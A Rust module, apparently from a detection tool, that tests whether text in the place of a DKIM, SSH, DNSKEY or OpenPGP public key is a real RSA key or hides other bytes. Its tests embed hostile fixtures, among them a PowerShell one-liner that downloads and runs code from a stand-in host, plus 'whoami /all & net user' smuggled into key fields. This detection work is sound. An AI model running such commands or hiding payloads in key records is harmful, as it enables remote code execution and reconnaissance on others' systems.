//! Whether what looks like a public key can be one. A real key is a product of two large primes in an exact structure; bytes that
//! somebody put into its place are not.
//!
//! Sources: RFC 8017 (RSA), RFC 5280 and X.690 (SubjectPublicKeyInfo in DER), RFC 4253 (`ssh-rsa`), RFC 3110 (RSA in DNSKEY), RFC 9580
//! (OpenPGP's packets and armour).

use crate::evidence::decoding::decodings;
use crate::evidence::encoding::Encoding;

/// The header of a SubjectPublicKeyInfo of RSA holds this object identifier.
const RSA: &[u8] = &[0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01];

/// The bytes of the key of a DKIM record.
pub fn dkim_key(text: &[u8]) -> Option<Vec<u8>> {
    dkim_value(text).and_then(decode)
}

/// Whether a key has the header of an RSA key and something else behind it. A part of a key may be a real one.
pub fn is_broken_key(key: &[u8]) -> bool {
    matches!(dkim_modulus(key), Modulus::Broken)
}

/// Whether the text of a DNSKEY of RSA (`257 3 8 AwEAA…`) or an OpenPGP key in armour holds something else.
pub fn is_broken_text_of_key(text: &[u8]) -> bool {
    match text.first() {
        Some(b'2') => dns_key(text).is_some_and(is_broken_dns_key),
        Some(b'-') => pgp_key(text).is_some_and(|packets| is_broken_pgp_key(&packets)),
        _ => false,
    }
}

/// Characters below which base64 in the place of a key is a word, such as `TBD`.
const MIN_KEY_CHARS: usize = 16;

/// The base64 of a DNSKEY of RSA: flags, the protocol 3, an algorithm, the key.
fn dns_key(text: &[u8]) -> Option<&[u8]> {
    const MAX_STRING_BYTES: usize = 255;
    let rest = text.strip_prefix(b"257 3 ").or_else(|| text.strip_prefix(b"256 3 "))?;
    let key = [&b"5 "[..], b"7 ", b"8 ", b"10 "].into_iter().find_map(|algorithm| rest.strip_prefix(algorithm))?;
    let is_base64 = key.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+/= ".contains(byte));
    // Words have spaces more often than base64 is split. One DNS string may be a part of a key.
    let is_words = key.split(|byte| *byte == b' ').all(|word| word.len() < MIN_KEY_CHARS);
    (is_base64 && !is_words && text.len() != MAX_STRING_BYTES).then_some(key)
}

/// An exponent of one or three bytes behind its length, and a modulus of 512 bits and more, in whole bytes of eight.
fn is_broken_dns_key(value: &[u8]) -> bool {
    const MIN_MODULUS_BYTES: usize = 64;
    let value: Vec<u8> = value.iter().copied().filter(|byte| *byte != b' ').collect();
    let characters = value.trim_ascii_end().iter().filter(|byte| **byte != b'=').count();
    let bytes = decode(&value).unwrap_or_default();
    let modulus = match bytes.as_slice() {
        [1, 3, modulus @ ..] | [3, 1, 0, 1, modulus @ ..] => modulus,
        _ => return true,
    };
    // A byte of zero may be left out at the beginning of a modulus.
    characters % 4 == 1 || modulus.len() < MIN_MODULUS_BYTES || !matches!(modulus.len() % 8, 0 | 7)
}

/// The packets of an OpenPGP key in armour that is whole: its checksum stands before its end.
fn pgp_key(text: &[u8]) -> Option<Vec<u8>> {
    const BEGIN: &[u8] = b"-----BEGIN PGP PUBLIC KEY BLOCK-----";
    const MIN_LINE_CHARS: usize = 12; // words of the armour's headers are shorter
    let body = text.strip_prefix(BEGIN)?;
    let body = body.get(..memchr::memmem::find(body, b"-----END")?)?;
    let mut words = body.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    let is_base64 =
        |word: &&[u8]| word.len() >= MIN_LINE_CHARS && word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(byte));
    let joined: Vec<u8> = words.by_ref().take_while(|word| word.first() != Some(&b'=')).filter(is_base64).flatten().copied().collect();
    if joined.len() < MIN_KEY_CHARS { None } else { decode(&joined) }
}

/// The first packet is a public key in the old form (0x98, 0x99) or the new one (0xc6), and no longer than what follows.
fn is_broken_pgp_key(packets: &[u8]) -> bool {
    match packets {
        [0x98, length, rest @ ..] => usize::from(*length) > rest.len(),
        [0x99, high, low, rest @ ..] => usize::from(u16::from_be_bytes([*high, *low])) > rest.len(),
        [0xc6, ..] => false,
        _ => true,
    }
}

/// A prime below 100 that divides the modulus of a DKIM record's key or of an SSH key, so that the key is none. Seven of eight
/// random numbers have one; real moduli are products of two primes of hundreds of digits.
pub fn small_factor_of_key(text: &[u8]) -> Option<u32> {
    if let Some(value) = dkim_value(text) {
        return match dkim_modulus(&decode(value)?) {
            Modulus::Whole(modulus) => small_factor(modulus),
            Modulus::Broken | Modulus::None => None,
        };
    }
    let value = text.strip_prefix(b"ssh-rsa ")?.split(|byte| *byte == b' ').next()?;
    small_factor(ssh_modulus(&decode(value)?)?)
}

/// What stands in the place of a modulus.
enum Modulus<'k> {
    Whole(&'k [u8]),
    Broken,
    /// Another algorithm, no key, or only a part of one.
    None,
}

/// The tag `p` of a DKIM record.
fn dkim_value(text: &[u8]) -> Option<&[u8]> {
    let begins = |word: &[u8]| text.get(..word.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(word));
    if !matches!(text.first(), Some(b'v' | b'V' | b'k' | b'K' | b'p' | b'P' | b'g' | b'G' | b'h' | b'H' | b't' | b'T')) {
        return None; // nearly always
    }
    if ![&b"v=dkim1"[..], b"k=rsa", b"p=mi", b"g=*", b"h=sha", b"t=s", b"t=y"].into_iter().any(begins) {
        return None;
    }
    text.split(|byte| *byte == b';').map(<[u8]>::trim_ascii_start).find_map(|tag| tag.strip_prefix(b"p="))
}

fn decode(value: &[u8]) -> Option<Vec<u8>> {
    const MAX_CHARS: usize = 4 << 10;
    let value = value.get(..MAX_CHARS).unwrap_or(value).trim_ascii();
    if !value.contains(&b' ') {
        return decodings(Encoding::Base64, value).next();
    }
    let joined: Vec<u8> = value.iter().copied().filter(|byte| *byte != b' ').collect();
    decodings(Encoding::Base64, &joined).next()
}

/// The contents of a DER value that begins with a tag, its length as it is stated, and what follows it; contents may be cut.
fn der(tag: u8, bytes: &[u8]) -> Option<(&[u8], usize, &[u8])> {
    let [first, length, rest @ ..] = bytes else { return None };
    if *first != tag {
        return None;
    }
    let (length, rest) = match length {
        0x81 => (usize::from(*rest.first()?), rest.get(1..)?),
        0x82 => (usize::from(u16::from_be_bytes([*rest.first()?, *rest.get(1)?])), rest.get(2..)?),
        short if *short < 0x80 => (usize::from(*short), rest),
        _ => return None,
    };
    let contents = rest.get(..length).unwrap_or(rest);
    Some((contents, length, rest.get(length..).unwrap_or_default()))
}

fn dkim_modulus(bytes: &[u8]) -> Modulus<'_> {
    const HEADER_BYTES: usize = 24;
    if bytes.get(..HEADER_BYTES).is_none_or(|header| memchr::memmem::find(header, RSA).is_none()) {
        return Modulus::None;
    }
    const SEQUENCE: u8 = 0x30;
    const INTEGER: u8 = 0x02;
    const BIT_STRING: u8 = 0x03;
    let parts = || {
        let (info, info_length, after) = der(SEQUENCE, bytes)?;
        let (_, _, rest) = der(SEQUENCE, info)?;
        let (bits, _, _) = der(BIT_STRING, rest)?;
        let (key, _, _) = der(SEQUENCE, bits.strip_prefix(&[0])?)?;
        let (modulus, length, exponent) = der(INTEGER, key)?;
        Some((info.len() < info_length, after, modulus, modulus.len() < length, exponent))
    };
    let Some((is_cut, after, modulus, is_modulus_cut, exponent)) = parts() else {
        return if bytes.len() > HEADER_BYTES.saturating_mul(2) { Modulus::Broken } else { Modulus::None };
    };
    // A positive number of full length: a zero, and then a byte whose first bit is set. Some writers leave the zero out.
    let begins = matches!(modulus, [0, next, ..] if *next >= 0x80) || modulus.first().is_some_and(|first| *first >= 0x80);
    if modulus.len() > 2 && !begins {
        return Modulus::Broken;
    }
    // A part of a key may be all that a log holds.
    if is_cut || is_modulus_cut {
        return Modulus::None;
    }
    const MAX_AFTER: usize = 3; // padding that was decoded
    let has_exponent = der(INTEGER, exponent).is_some_and(|(number, length, rest)| {
        number.len() == length && (1..=5).contains(&length) && rest.is_empty() && number.last().is_some_and(|last| last % 2 == 1)
    });
    // Some people paste a key twice.
    let is_twice = bytes.get(..8).is_some_and(|begin| after.starts_with(begin));
    if after.len() > MAX_AFTER && !is_twice || !has_exponent {
        return Modulus::Broken;
    }
    Modulus::Whole(modulus)
}

/// A length of four bytes and as many bytes, three times: the name, the exponent, the modulus.
fn ssh_modulus(bytes: &[u8]) -> Option<&[u8]> {
    let mut rest = bytes;
    let mut next = || {
        let (length, after) = rest.split_first_chunk::<4>()?;
        let (value, after) = after.split_at_checked(usize::try_from(u32::from_be_bytes(*length)).ok()?)?;
        rest = after;
        Some(value)
    };
    let (name, _, modulus) = (next()?, next()?, next()?);
    (name == b"ssh-rsa").then_some(modulus)
}

/// A prime below 100 that divides a number in big-endian bytes.
fn small_factor(number: &[u8]) -> Option<u32> {
    // Products of primes that fit into 32 bits, so that one pass over the number tries several.
    const GROUPS: [&[u32]; 4] = [&[3, 5, 7, 11, 13, 17, 19, 23, 29], &[31, 37, 41, 43, 47], &[53, 59, 61, 67, 71], &[73, 79, 83, 89, 97]];
    if number.last().is_some_and(|last| last % 2 == 0) {
        return Some(2);
    }
    let (rest, words) = number.as_rchunks::<4>();
    GROUPS.into_iter().find_map(|primes| {
        let product: u64 = primes.iter().map(|prime| u64::from(*prime)).fold(1, u64::saturating_mul);
        let head = rest.iter().fold(0u64, |value, byte| value << 8 | u64::from(*byte));
        let remainder = words
            .iter()
            .fold(head, |value, word| (value << 32 | u64::from(u32::from_be_bytes(*word))).checked_rem(product).unwrap_or_default());
        primes.iter().copied().find(|prime| remainder.checked_rem(u64::from(*prime)) == Some(0))
    })
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    /// A key of 1024 bits that `openssl genrsa` made for this test.
    const KEY: &str = "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQCiC8MKgxTynWQxwir8p3jBHvzCxNP/NxfKmmUXIKUN46Qfk1Xcqu5QHWqjlP7CnURQdWYLBgdD5tLNyiJkA8bZYV3TDYMc+vd7hQSYtYiyyUyf2Yed3bELaUaCSAPgHhAPp0eElnEz9sWSSShk5li02B/Bsf5I0QdBLNPpiAoHaQIDAQAB";

    /// The bytes of the key, and where its modulus begins.
    fn key() -> (Vec<u8>, usize) {
        (decode(KEY.as_bytes()).unwrap(), 29)
    }

    fn dkim(bytes: &[u8]) -> Vec<u8> {
        format!("v=DKIM1; k=rsa; p={}", STANDARD.encode(bytes)).into_bytes()
    }

    fn is_broken(text: &[u8]) -> bool {
        dkim_key(text).is_some_and(|key| is_broken_key(&key))
    }

    #[test]
    fn a_real_key_and_any_part_of_it_are_ordinary() {
        let (bytes, modulus) = key();
        assert!(bytes[modulus] >= 0x80 && bytes[modulus - 1] == 0);
        assert_eq!(small_factor_of_key(&dkim(&bytes)), None);
        for length in 0..=bytes.len() {
            assert!(!is_broken(&dkim(&bytes[..length])), "{length}");
        }
        let spaced = format!("k=rsa; t=s; p={} {}", &KEY[..64], &KEY[64..]);
        assert!(!is_broken(spaced.as_bytes()));
        assert!(!is_broken(b"v=DKIM1; p="));
        assert!(!is_broken(b"v=DKIM1; k=ed25519; p=11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo="));
    }

    /// The key of the root zone of 2017, as IANA publishes it (`. DNSKEY`), and the first packet of an OpenPGP key.
    #[test]
    fn texts_of_other_keys_are_ordinary_and_what_only_begins_so_is_not() {
        const ROOT: &str = "257 3 8 AwEAAaz/tAm8yTn4Mfeh5eyI96WSVexTBAvkMgJzkKTOiW1vkIbzxeF3+/4RgWOq7HrxRixHlFlExOLAJr5emLvN7SWXgnLh4+B5xQlNVz8Og8kvArMtNROxVQuCaSnIDdD5LKyWbRd2n9WGe2R8PzgCmr3EgVLrjyBxWezF0jLHwVN8efS3rCj/EWgvIWgb9tarpVUDK/b58Da+sqqls3eNbuv7pr+eoZG+SrDK6nWeL3c6H5Apxz7LjVc1uTIdsIXxuOLYA4/ilBmSVIzuDWfdRUfhHdY6+cn8HFRm+2hM8AnXGXws9555KrUB5qihylGa8subX2Nn6UwNR1AkUTV74bU=";
        let armour = |packets: &[u8]| {
            let body = STANDARD.encode(packets);
            format!("-----BEGIN PGP PUBLIC KEY BLOCK----- Version: GnuPG v2 {body} =Ab3d -----END PGP PUBLIC KEY BLOCK-----")
        };
        let key = [&[0x99, 0x00, 0x40][..], &[7; 64], &[0xb4, 3], b"a@b"].concat();
        for text in [
            ROOT,
            &ROOT[..255],
            &armour(&key),
            "257 3 13 mdsswUyr3DPW132mOi8V9xESWE8jTo0d",
            "256 shades of grey",
            // Found in review: placeholders and words were broken keys.
            "257 3 8 TBD",
            "257 3 8 ",
            "256 3 5 see the page of the zone",
            "-----BEGIN PGP PUBLIC KEY BLOCK----- ask us -----END PGP PUBLIC KEY BLOCK-----",
            "-----BEGIN PGP PUBLIC KEY BLOCK-----",
        ] {
            assert!(!is_broken_text_of_key(text.as_bytes()), "{text}");
        }
        let command = STANDARD.encode(b"\x03\x01\0\x01whoami /all & net user");
        for text in [&*format!("257 3 8 {command}"), "257 3 8 QUJDREVGR0hJSktMTU5PUA==", &armour(&key[..40]), &armour(b"powershell -enc")] {
            assert!(is_broken_text_of_key(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn garbage_behind_the_header_of_a_key_is_found() {
        let (bytes, modulus) = key();
        let command = b"powershell -w hidden -c iex (irm http://192.0.2.7/a)";
        assert!(is_broken(&dkim(&[&bytes[..modulus], command].concat())));
        assert!(is_broken(&dkim(&[&bytes[..], command].concat())), "behind a whole key");
        let mut without_exponent = bytes.clone();
        let end = bytes.len() - 5;
        without_exponent[end..].copy_from_slice(b"abcde");
        assert!(is_broken(&dkim(&without_exponent)));
    }

    #[test]
    fn a_modulus_with_a_small_factor_is_named() {
        let (mut bytes, modulus) = key();
        bytes[modulus + 1..modulus + 128].fill(0);
        bytes[modulus] = 0x81; // 129 times a power of two, and one: 129 * 2^1016 + 1
        bytes[modulus + 127] = 1;
        let remainder = |prime: u64| bytes[modulus..modulus + 128].iter().fold(0u64, |rest, byte| (rest * 256 + u64::from(*byte)) % prime);
        let first = (2..100).find(|prime| remainder(*prime) == 0);
        assert_eq!(small_factor_of_key(&dkim(&bytes)).map(u64::from), first);
        bytes[modulus + 127] = 0;
        assert_eq!(small_factor_of_key(&dkim(&bytes)), Some(2));
        let part = |bytes: &[u8]| [&(bytes.len() as u32).to_be_bytes()[..], bytes].concat();
        let ssh =
            |modulus: &[u8]| format!("ssh-rsa {} user@host", STANDARD.encode([part(b"ssh-rsa"), part(&[1, 0, 1]), part(modulus)].concat()));
        assert_eq!(small_factor_of_key(ssh(&[0, 0x8f, 0xff, 0x69, 21 * 5]).as_bytes()), small_factor(&[0, 0x8f, 0xff, 0x69, 21 * 5]));
        assert_eq!(small_factor(&(97u32 * 101).to_be_bytes()), Some(97));
        assert_eq!(small_factor(&(101u32 * 103).to_be_bytes()), None);
    }

    proptest::proptest! {
        #[test]
        fn no_bytes_end_in_a_panic(bytes: Vec<u8>, kept in 0usize..40) {
            let (key, _) = key();
            let text = dkim(&[&key[..kept], &bytes[..]].concat());
            is_broken(&text);
            small_factor_of_key(&text);
            is_broken(&bytes);
            is_broken_key(&bytes);
        }
    }
}
